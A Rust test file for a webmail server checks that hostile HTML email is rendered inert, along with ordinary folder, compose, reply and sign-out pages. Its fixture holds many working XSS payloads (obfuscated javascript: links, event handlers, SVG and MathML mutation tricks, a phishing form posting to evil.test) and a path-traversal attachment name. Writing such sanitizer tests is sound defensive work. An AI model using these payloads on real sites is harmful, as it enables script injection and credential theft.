//! The front door's webmail pages over real processes: hostile HTML mail rendered inert, and the
//! pages and forms people use (folders, paging, reading, filing, composing with attachments,
//! replying and forwarding, search, settings, sign-out), all without scripts.

use megamail_tests::frontdoor::{
    self, download, location, send_in, status_and_text, wait_inbox, FrontDoor,
};
use megamail_tests::hcu::{HcuOpts, LocalHcu};
use serde_json::Value;

const ALICE: &str = "alice@megamail.test";
const BOB: &str = "bob@megamail.test";

/// A 1x1 PNG.
const PNG_B64: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const HOSTILE_HTML: &str = r#"<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.test/r">
<base href="https://evil.test/">
<style>body{background:url(javascript:alert(1))} p{width:expression(alert(1))}</style>
<link rel="stylesheet" href="https://evil.test/x.css">
<script>alert('head')</script>
</head><body onload="alert(1)">
<p>Dear customer, <b>please</b> read this.</p>
<script src="https://evil.test/x.js"></script>
<img src="x" onerror="alert(1)">
<a href="javascript:alert(1)">click</a>
<a href=" JaVaScRiPt:alert(1)">click2</a>
<a href="java&#x09;script:alert(1)">click3</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click4</a>
<a href="https://example.test/ok">a fine link</a>
<svg onload="alert(1)"><script>alert(1)</script></svg>
<svg><image href="https://evil.test/i.png"/><animate attributeName="href" values="javascript:alert(1)"/></svg>
<div style="background:url(javascript:alert(1))">styled</div>
<div style="width:expression(alert(1))">expr</div>
<form action="https://evil.test/phish"><input type="password" name="pw"><button formaction="https://evil.test/b">Log in</button></form>
<iframe src="https://evil.test/frame"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">
<img src="https://images.remote.test/pixel.gif" width="1" height="1">
<img src="cid:logo@remote.test" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img srcset="https://evil.test/s.png 2x">
<details open ontoggle="alert(1)"><summary>more</summary>x</details>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<p onmouseover="alert(1)" title="t">hover</p>
<table background="https://evil.test/bg.png"><tr><td>cell</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<a href="/logout">relative</a>
</body></html>"#;

fn hostile_mail() -> Vec<u8> {
    format!(
        "From: \"Bank <script>alert(1)</script>\" <bank@remote.test>\r\nTo: {ALICE}\r\n\
         Subject: <script>alert('subject')</script> Your invoice\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
         --outer\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
         --rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE_HTML}\r\n\
         --rel\r\nContent-Type: image/png\r\nContent-ID: <logo@remote.test>\r\n\
         Content-Disposition: inline; filename=\"logo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{PNG_B64}\r\n\
         --rel--\r\n\
         --outer\r\nContent-Type: text/html; name=\"invoice.html\"\r\n\
         Content-Disposition: attachment; filename=\"../../invoice.html\"\r\n\r\n\
         <script>alert('attachment')</script>\r\n--outer--\r\n"
    )
    .into_bytes()
}

/// Whether a tag in `html` has an attribute named `on...=` (an event handler). Text between
/// tags (escaped markup shown as text) does not count.
fn has_event_handler(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    lower.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or("");
        let bytes = tag.as_bytes();
        tag.match_indices("on").any(|(i, _)| {
            let before = i.checked_sub(1).map(|j| bytes[j]);
            if !matches!(before, Some(b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'')) {
                return false;
            }
            let rest = &bytes[i + 2..];
            let n = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
            n > 0 && rest[n..].iter().find(|b| !b.is_ascii_whitespace()) == Some(&b'=')
        })
    })
}

/// The part of a message page holding the message body.
fn body_part(page: &str) -> &str {
    let start = page.find("class=\"body html\"").expect("an HTML body");
    let end = page[start..]
        .find("<section class=\"attachments\">")
        .map(|e| start + e)
        .unwrap_or(page.len());
    &page[start..end]
}

fn assert_inert(page: &str) {
    let lower = page.to_ascii_lowercase();
    for bad in [
        "<script",
        "javascript:",
        "data:",
        "expression(",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "http-equiv",
        "<base",
        "evil.test",
        "srcdoc",
        "srcset",
        "formaction",
        "href=\"/logout\"",
    ] {
        assert!(!lower.contains(bad), "`{bad}` in the page:\n{page}");
    }
    assert!(
        !has_event_handler(page),
        "an event handler in the page:\n{page}"
    );
    let body = body_part(page).to_ascii_lowercase();
    for bad in [
        "<form", "<input", "<button", "<style", "style=", "<link", "<meta",
    ] {
        assert!(!body.contains(bad), "`{bad}` in the message body:\n{body}");
    }
}

fn ids_in(page: &str) -> Vec<u64> {
    page.match_indices("name=\"id\" value=\"")
        .filter_map(|(i, m)| {
            let rest = &page[i + m.len()..];
            rest[..rest.find('"')?].parse().ok()
        })
        .collect()
}

#[test]
fn the_event_handler_check_sees_handlers_only() {
    assert!(has_event_handler("<img src=x onerror=alert(1)>"));
    assert!(has_event_handler("<p title=\"a\" ONMOUSEOVER = \"x\">"));
    assert!(has_event_handler("<svg/onload=alert(1)>"));
    assert!(!has_event_handler("<p>turn it on=off</p>"));
    assert!(!has_event_handler(
        "<p>&lt;img src=x onerror=alert(1)&gt;</p>"
    ));
    assert!(!has_event_handler("<p>the button</p><a href=\"/x?one=1\">"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_html_mail_is_rendered_inert() {
    let hcu = LocalHcu::start(HcuOpts::one_store()).await.unwrap();
    hcu.add_users(&[ALICE]).await.unwrap();
    send_in(&hcu, "bank@remote.test", &[ALICE], &hostile_mail())
        .await
        .unwrap();
    let plain = format!(
        "From: x@remote.test\r\nTo: {ALICE}\r\nSubject: plain\r\n\r\n<script>alert(1)</script> <img src=x onerror=alert(1)>\r\n"
    );
    send_in(&hcu, "x@remote.test", &[ALICE], plain.as_bytes())
        .await
        .unwrap();
    wait_inbox(&hcu, ALICE, 2).await.unwrap();
    let fd = FrontDoor::start(&hcu).await.unwrap();
    let alice = fd.token(&hcu, ALICE).await.unwrap();
    let page = fd
        .json(&alice, "/api/v1/folders/Inbox/messages")
        .await
        .unwrap();
    let id_of = |subject: &str| {
        page["messages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["subject"].as_str().unwrap().contains(subject))
            .unwrap()["id"]
            .as_u64()
            .unwrap()
    };
    let hostile = id_of("invoice");
    let plain_id = id_of("plain");

    // The folder page shows the hostile subject and sender as text.
    let (status, folder) = fd.browser(&alice).page("/folder/Inbox").await;
    assert_eq!(status, 200);
    assert!(folder.contains("&lt;script&gt;alert('subject')&lt;/script&gt; Your invoice"));
    assert!(!folder.to_ascii_lowercase().contains("<script"));

    // The message page: nothing active, remote images held back until asked for.
    let r = fd
        .page(&alice, &format!("/message/{hostile}"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    for part in [
        "default-src 'none'",
        "img-src 'self';",
        "style-src 'self'",
        "form-action 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ] {
        assert!(csp.contains(part), "{part} not in {csp}");
    }
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(r.headers()["referrer-policy"], "no-referrer");
    let page = r.text().await.unwrap();
    assert_inert(&page);
    assert!(
        !page.contains("images.remote.test"),
        "a remote image before asking"
    );
    assert!(page.contains(&format!(
        "<a href=\"/message/{hostile}?images=1\">Load images</a>"
    )));
    assert!(page.contains("Dear customer, <b>please</b> read this."));
    assert!(page.contains("href=\"https://example.test/ok\""));
    assert!(page.contains("&lt;script&gt;alert('subject')&lt;/script&gt; Your invoice"));
    // The inline image points at its attachment, which is served as an image.
    let inline = format!("src=\"/message/{hostile}/inline/");
    let at = page.find(&inline).expect("the inline image");
    let n: String = page[at + inline.len()..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    let r = fd
        .page(&alice, &format!("/message/{hostile}/inline/{n}"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/png");
    let png = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, PNG_B64).unwrap();
    assert_eq!(r.bytes().await.unwrap().to_vec(), png);

    // With images loaded: the remote image is there and allowed, nothing else changes.
    let r = fd
        .page(&alice, &format!("/message/{hostile}?images=1"))
        .await
        .unwrap();
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(csp.contains("img-src 'self' https: http:"), "{csp}");
    assert!(csp.contains("default-src 'none'"), "{csp}");
    let page = r.text().await.unwrap();
    assert_inert(&page);
    assert!(
        page.contains("src=\"https://images.remote.test/pixel.gif\""),
        "{page}"
    );
    assert!(!page.contains("Load images"));

    // The JSON view sanitizes the same way.
    let v: Value = fd
        .json(&alice, &format!("/api/v1/messages/{hostile}"))
        .await
        .unwrap();
    let html = v["html"].as_str().unwrap();
    assert!(!html.contains("<script") && !html.contains("javascript:") && !has_event_handler(html));
    assert_eq!(v["blocked_images"], 1);

    // The HTML attachment is a download that cannot run.
    let names: Vec<String> = v["attachments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap().to_string())
        .collect();
    let k = names
        .iter()
        .position(|n| n.ends_with("invoice.html"))
        .unwrap();
    let r = fd
        .page(&alice, &format!("/message/{hostile}/attachment/{k}"))
        .await
        .unwrap();
    let cd = download(&r, "the HTML attachment");
    assert!(
        cd.starts_with("attachment; filename=\"invoice.html\""),
        "{cd}"
    );
    assert!(r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .contains("sandbox"));

    // A plain-text message is escaped.
    let (status, page) = fd
        .browser(&alice)
        .page(&format!("/message/{plain_id}"))
        .await;
    assert_eq!(status, 200);
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;")
    );
    assert!(!page.to_ascii_lowercase().contains("<script"));
    assert!(!has_event_handler(&page));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webmail_pages_work_without_scripts() {
    let hcu = LocalHcu::start(HcuOpts::one_store()).await.unwrap();
    hcu.add_users(&[ALICE, BOB]).await.unwrap();
    for subject in ["first note", "second note", "third note"] {
        let m = format!(
            "From: Xavier <x@remote.test>\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMessage-ID: <{}@remote.test>\r\n\
             MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
             Content-Type: text/plain\r\n\r\nThis is the {subject}.\r\n--b\r\nContent-Type: text/plain; name=\"n.txt\"\r\n\
             Content-Disposition: attachment; filename=\"n.txt\"\r\n\r\nnotes for {subject}\r\n--b--\r\n",
            subject.replace(' ', "-")
        );
        send_in(&hcu, "x@remote.test", &[ALICE], m.as_bytes())
            .await
            .unwrap();
    }
    wait_inbox(&hcu, ALICE, 3).await.unwrap();
    let fd = FrontDoor::start_with(&hcu, |c| c.page_size = 2)
        .await
        .unwrap();
    let alice = fd.token(&hcu, ALICE).await.unwrap();
    let browser = fd.browser(&alice);
    let csrf = &browser.csrf;

    // No session: off to sign in. The root goes to the Inbox.
    let r = fd.http.get(fd.url("/folder/Inbox")).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], frontdoor::LOGIN_URL);
    let r = fd.page(&alice, "/").await.unwrap();
    assert_eq!(r.headers()["location"], "/folder/Inbox");
    let r = fd.http.get(fd.url("/static/app.css")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/css"));

    // The Inbox, newest first, two to a page, unread in bold, counts in the sidebar.
    let r = fd.page(&alice, "/folder/Inbox").await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/html"));
    assert_eq!(r.headers()["cache-control"], "no-store");
    let page = r.text().await.unwrap();
    assert!(!page.contains("<script"));
    let third = page.find("third note").unwrap();
    let second = page.find("second note").unwrap();
    assert!(third < second, "newest first");
    assert!(!page.contains("first note"));
    assert!(page.contains("<tr class=\"unread\">"));
    assert!(page.contains("title=\"3 unread\">3</span>"));
    assert!(page.contains("href=\"/folder/Inbox?page=1\""));
    assert!(page.contains(&format!("name=\"csrf\" value=\"{csrf}\"")));
    let ids = ids_in(&page);
    assert_eq!(ids.len(), 2);
    let (third_id, second_id) = (ids[0], ids[1]);
    let (_, page1) = browser.page("/folder/Inbox?page=1").await;
    assert!(page1.contains("first note"));
    let first_id = ids_in(&page1)[0];

    // Reading marks it read.
    let (status, msg) = browser.page(&format!("/message/{third_id}")).await;
    assert_eq!(status, 200);
    assert!(msg.contains("<h1>third note</h1>"));
    assert!(msg.contains("This is the third note."));
    assert!(msg.contains("n.txt"));
    let (_, page) = browser.page("/folder/Inbox").await;
    assert!(page.contains("title=\"2 unread\">2</span>"));
    let r = fd
        .page(&alice, &format!("/message/{third_id}/attachment/0"))
        .await
        .unwrap();
    assert_eq!(r.headers()["content-type"], "text/plain");
    assert_eq!(r.text().await.unwrap(), "notes for third note");

    // Mark unread again, flag from the message view.
    let to = browser.act(third_id, "unread", &[]).await;
    assert_eq!(to, "/folder/Inbox?n=marked");
    let to = browser.act(third_id, "flag", &[("from", "message")]).await;
    assert_eq!(to, format!("/message/{third_id}?n=marked"));
    let (_, page) = browser.page("/folder/Inbox?n=marked").await;
    assert!(page.contains("title=\"3 unread\""));
    assert!(page.contains("<tr class=\"unread flagged\">"));
    assert!(page.contains("Updated."));

    // Folders: create, move into, rename, delete.
    let to = browser
        .post_redirect("/folders/create", &[("name", "Receipts")])
        .await;
    assert_eq!(to, "/folders?n=folder_created");
    let (_, page) = browser.page("/folders").await;
    assert!(page.contains("href=\"/folder/Receipts\""));
    let to = browser.act(second_id, "move", &[("to", "Receipts")]).await;
    assert_eq!(to, "/folder/Inbox?n=moved");
    let (_, page) = browser.page("/folder/Receipts").await;
    assert!(page.contains("second note"));
    let rename = [("from", "Receipts"), ("to", "Paid receipts")];
    let to = browser.post_redirect("/folders/rename", &rename).await;
    assert_eq!(to, "/folders?n=folder_renamed");
    let (status, page) = browser.page("/folder/Paid%20receipts").await;
    assert_eq!(status, 200);
    assert!(page.contains("second note"));
    let r = browser.post("/folders/create", &[("name", "Inbox")]).await;
    assert_eq!(r.status(), 409, "a folder that exists");
    let to = browser
        .post_redirect("/folders/delete", &[("name", "Paid receipts")])
        .await;
    assert_eq!(to, "/folders?n=folder_deleted");
    assert_eq!(browser.page("/folder/Paid%20receipts").await.0, 404);

    // Delete goes to Trash; Trash empties.
    let to = browser.act(first_id, "delete", &[]).await;
    assert_eq!(to, "/folder/Inbox?n=deleted");
    let (_, trash) = browser.page("/folder/Trash").await;
    assert!(trash.contains("first note"));
    assert!(trash.contains("action=\"/folder/Trash/empty\""));
    let to = browser.post_redirect("/folder/Trash/empty", &[]).await;
    assert_eq!(to, "/folder/Trash?n=emptied");
    let (_, trash) = browser.page("/folder/Trash").await;
    assert!(trash.contains("No messages in Trash."));

    // Search.
    let (status, page) = browser.page("/search?q=third&in=subject").await;
    assert_eq!(status, 200);
    assert!(page.contains("third note"));
    assert!(page.contains("1 found"));

    // Reply, with an attachment, through the compose form.
    let (_, form) = browser.page(&format!("/compose?reply={third_id}")).await;
    assert!(form.contains("value=\"x@remote.test\""));
    assert!(form.contains("value=\"Re: third note\""));
    assert!(form.contains("&gt; This is the third note."));
    assert!(form.contains("enctype=\"multipart/form-data\""));
    let id = third_id.to_string();
    let reply = [
        ("to", BOB.to_string()),
        ("subject", "Re: third note".to_string()),
        ("text", "Seen it.\n> This is the third note.".to_string()),
        ("in_reply_to", "<third-note@remote.test>".to_string()),
        ("answered", id.clone()),
    ];
    let plan = Some(("plan.txt", &b"step one\nstep two\n"[..]));
    let r = browser.compose(&reply, plan).await;
    assert_eq!(location(&r, "the reply"), "/folder/Inbox?n=sent");
    wait_inbox(&hcu, BOB, 1).await.unwrap();
    let got = hcu.inbox(BOB).await.unwrap();
    assert_eq!(got[0].0.summary.subject, "Re: third note");
    assert_eq!(got[0].0.summary.attachments, vec!["plan.txt".to_string()]);
    let raw = String::from_utf8_lossy(&got[0].1).to_string();
    assert!(
        raw.contains("In-Reply-To: <third-note@remote.test>"),
        "{raw}"
    );
    let inbox = fd
        .json(&alice, "/api/v1/folders/Inbox/messages")
        .await
        .unwrap();
    let answered = inbox["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == third_id)
        .unwrap();
    assert_eq!(answered["answered"], true);
    let sent = fd
        .json(&alice, "/api/v1/folders/Sent/messages")
        .await
        .unwrap();
    assert_eq!(sent["messages"][0]["subject"], "Re: third note");

    // Forward keeps the original's attachments.
    let (_, form) = browser.page(&format!("/compose?forward={third_id}")).await;
    assert!(form.contains("value=\"Fwd: third note\""));
    assert!(form.contains("name=\"keep\" value=\"0\" checked"));
    let forward = [
        ("to", BOB.to_string()),
        ("subject", "Fwd: third note".to_string()),
        ("text", "See below.".to_string()),
        ("forward_of", id.clone()),
        ("keep", "0".to_string()),
    ];
    let r = browser.compose(&forward, None).await;
    assert_eq!(r.status(), 303);
    wait_inbox(&hcu, BOB, 2).await.unwrap();
    let got = hcu.inbox(BOB).await.unwrap();
    assert_eq!(got[1].0.summary.subject, "Fwd: third note");
    assert_eq!(got[1].0.summary.attachments, vec!["n.txt".to_string()]);
    assert!(
        String::from_utf8_lossy(&got[1].1).contains("bm90ZXMgZm9yIHRoaXJkIG5vdGU") // base64
        || String::from_utf8_lossy(&got[1].1).contains("notes for third note")
    );

    // A bad address is refused with the form kept.
    let bad = [
        ("to", "not an address".to_string()),
        ("subject", "oops".to_string()),
    ];
    let (status, page) = status_and_text(browser.compose(&bad, None).await).await;
    assert_eq!(status, 400);
    assert!(page.contains("is not an email address"));
    assert!(page.contains("value=\"oops\""));

    // Settings: the display name shows and is used when sending.
    let name = [("display_name", "Alice Liddell")];
    let to = browser.post_redirect("/settings/name", &name).await;
    assert_eq!(to, "/settings?n=name_saved");
    let (_, page) = browser.page("/settings?n=name_saved").await;
    assert!(page.contains("Alice Liddell"));
    assert!(page.contains("Display name saved."));

    // Sign out: the cookie goes, and the browser lands on the sign-in page.
    let r = browser.post("/logout", &[]).await;
    let signed_out = format!(
        "{}/?signed_out=1",
        frontdoor::LOGIN_URL.trim_end_matches('/')
    );
    assert_eq!(location(&r, "signing out"), signed_out);
    let cookie = r.headers()["set-cookie"].to_str().unwrap();
    assert!(
        cookie.starts_with("mm_session=;") && cookie.contains("Max-Age=0"),
        "{cookie}"
    );
}
